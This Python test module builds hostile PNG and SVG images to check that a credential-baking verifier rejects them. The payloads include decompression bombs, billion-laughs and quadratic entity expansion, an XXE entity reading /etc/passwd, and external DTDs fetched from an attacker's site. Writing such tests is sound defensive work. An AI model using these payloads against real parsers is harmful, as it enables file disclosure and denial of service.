"""Baked images: bombs, two badges in one, and XML's own tricks."""

import json
import zlib

from shared.vc.baking import bake_png, bake_svg
from shared.vc.baking.png import SIGNATURE
from tests.hostile.corpus.attack import NOT_A_BADGE, Given, Stage, attack

UNSAFE, AMBIGUOUS = "format.unsafe_image", "format.ambiguous_image"
KEYWORD = b"openbadgecredential"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="https://purl.imsglobal.org/ob/v3p0">{}</svg>'


def chunk(kind: bytes, data: bytes, *, length: int | None = None, intact: bool = True) -> bytes:
    check = zlib.crc32(kind + data) ^ (0 if intact else 1)
    return (len(data) if length is None else length).to_bytes(4) + kind + data + check.to_bytes(4)


def header(width: int = 1, height: int = 1) -> bytes:
    return chunk(b"IHDR", width.to_bytes(4) + height.to_bytes(4) + b"\x08\x06\0\0\0")


def png(*chunks: bytes) -> bytes:
    return b"".join(
        [SIGNATURE, header(), *chunks, chunk(b"IDAT", zlib.compress(b"\0" * 5)), chunk(b"IEND", b"")]
    )


def text(stage: Stage) -> bytes:
    return json.dumps(stage.honest.award()).encode()


def carrying(content: bytes) -> bytes:
    return chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + content)


@attack(UNSAFE, "compressed")
def ztxt_bomb(stage: Stage) -> Given:
    """A zTXt chunk that unpacks to 60 MB"""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(60)) + packer.flush()
    return png(chunk(b"zTXt", KEYWORD + b"\0\0" + packed))


@attack(UNSAFE, "compressed")
def itxt_bomb(stage: Stage) -> Given:
    """A compressed iTXt chunk that unpacks to 60 MB"""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(60)) + packer.flush()
    return png(chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + packed))


@attack(NOT_A_BADGE, "carries no badge")
def huge_dimensions(stage: Stage) -> Given:
    """An image of 2^31 by 2^31 pixels in 100 bytes: whoever unpacks it needs 16 exabytes"""
    return b"".join(
        [
            SIGNATURE,
            header(2**31 - 1, 2**31 - 1),
            chunk(b"IDAT", zlib.compress(b"\0" * 5_000_000)),
            chunk(b"IEND", b""),
        ]
    )


@attack(AMBIGUOUS, "two credentials")
def two_baked_chunks(stage: Stage) -> Given:
    """Two credentials in one PNG: readers take the first or the last"""
    return png(carrying(text(stage)), carrying(json.dumps(stage.rogue.award()).encode()))


@attack(AMBIGUOUS, "two credentials")
def two_chunks_of_different_kinds(stage: Stage) -> Given:
    """One credential in iTXt and one in tEXt"""
    return png(
        carrying(text(stage)), chunk(b"tEXt", KEYWORD + b"\0" + json.dumps(stage.rogue.award()).encode())
    )


@attack(UNSAFE, "damaged")
def damaged_chunk(stage: Stage) -> Given:
    """A credential whose checksum is wrong"""
    return png(chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + text(stage), intact=False))


@attack(UNSAFE, "cut off")
def length_beyond_the_end(stage: Stage) -> Given:
    """A chunk that says it is 2 GB long"""
    return png(chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + text(stage), length=2**31 - 1))


@attack(UNSAFE, "too many parts")
def half_a_million_chunks(stage: Stage) -> Given:
    """500,000 empty chunks before the credential"""
    return png(chunk(b"tIME", b"") * 500_000, carrying(text(stage)))


@attack(UNSAFE, "too long")
def three_megabytes_in_a_chunk(stage: Stage) -> Given:
    """A credential of 3 MB in an image"""
    return png(carrying(b"{" + b" " * 3_000_000 + b"}"))


@attack(UNSAFE, "UTF-8")
def chunk_that_is_not_utf_8(stage: Stage) -> Given:
    """A credential in Latin-1"""
    return png(carrying(text(stage).replace(b"First aid", b"Premi\xe8re")))


@attack("proof.invalid", "does not fit")
def baked_forgery(stage: Stage) -> Given:
    """A changed credential baked into an honest image"""
    return bake_png(png(), text(stage).decode().replace("First aid", "Surgery"))


@attack(UNSAFE, "declares entities")
def billion_laughs(stage: Stage) -> Given:
    """Nine entities of ten of the next: a billion times the last"""
    entities = "".join(
        f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else ""}{("&l" + str(n - 1) + ";") * 9 if n else "lol"}">'
        for n in range(10)
    )
    content = f'<ob:credential verify="">&l9;{text(stage).decode()}</ob:credential>'
    return f"<!DOCTYPE svg [{entities}]>" + SVG.format(content)


@attack(UNSAFE, "declares entities")
def quadratic_blow_up(stage: Stage) -> Given:
    """One entity of 100 kB, used 10,000 times"""
    uses = "&a;" * 10_000
    return f'<!DOCTYPE svg [<!ENTITY a "{"x" * 100_000}">]>' + SVG.format(
        f"<ob:credential>{uses}</ob:credential>"
    )


@attack(UNSAFE, "declares entities")
def file_as_an_entity(stage: Stage) -> Given:
    """An external entity that reads /etc/passwd into the credential"""
    return '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + SVG.format(
        "<ob:credential>&f;</ob:credential>"
    )


@attack(UNSAFE, "declares entities")
def parameter_entity(stage: Stage) -> Given:
    """A parameter entity that fetches more of the DTD from the attacker"""
    return f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{stage.site}/evil.dtd"> %p;]>' + SVG.format(
        "<ob:credential>{}</ob:credential>"
    )


@attack(UNSAFE, "an entity that it does not declare")
def external_dtd(stage: Stage) -> Given:
    """A DTD at an address of the attacker's, and an entity that it would declare"""
    return f'<!DOCTYPE svg SYSTEM "{stage.site}/evil.dtd">' + SVG.format("<ob:credential>&f;</ob:credential>")


@attack(UNSAFE, "declares attributes")
def attributes_by_dtd(stage: Stage) -> Given:
    """A DTD that gives the credential an attribute it does not show"""
    return '<!DOCTYPE svg [<!ATTLIST ob:credential verify CDATA "x">]>' + SVG.format(
        f"<ob:credential>{text(stage).decode()}</ob:credential>"
    )


@attack(AMBIGUOUS, "two credentials")
def two_elements_in_an_svg(stage: Stage) -> Given:
    """Two credentials in one SVG"""
    one, other = text(stage).decode(), json.dumps(stage.rogue.award())
    return SVG.format(
        f"<ob:credential><![CDATA[{one}]]></ob:credential><ob:credential><![CDATA[{other}]]></ob:credential>"
    )


@attack(UNSAFE, "holds other elements")
def elements_within_the_credential(stage: Stage) -> Given:
    """Markup in the midst of the credential: readers of text see another one"""
    return SVG.format(f"<ob:credential><![CDATA[{text(stage).decode()}]]><g/></ob:credential>")


@attack(UNSAFE, "too complex")
def sixty_thousand_elements(stage: Stage) -> Given:
    """60,000 elements before the credential"""
    return SVG.format("<g/>" * 60_000 + f"<ob:credential><![CDATA[{text(stage).decode()}]]></ob:credential>")


@attack(UNSAFE, "too complex")
def deep_elements(stage: Stage) -> Given:
    """100,000 elements within one another"""
    return SVG.format("<g>" * 100_000)


@attack(UNSAFE, "too large")
def nine_megabytes_of_svg(stage: Stage) -> Given:
    """An SVG image of 9 MB"""
    return SVG.format(
        "<!--" + "x" * 9_000_000 + f"--><ob:credential><![CDATA[{text(stage).decode()}]]></ob:credential>"
    )


@attack("proof.invalid", "does not fit")
def baked_forgery_in_svg(stage: Stage) -> Given:
    """A changed credential baked into an honest SVG"""
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'
    return bake_svg(plain, text(stage).decode().replace("First aid", "Surgery"))
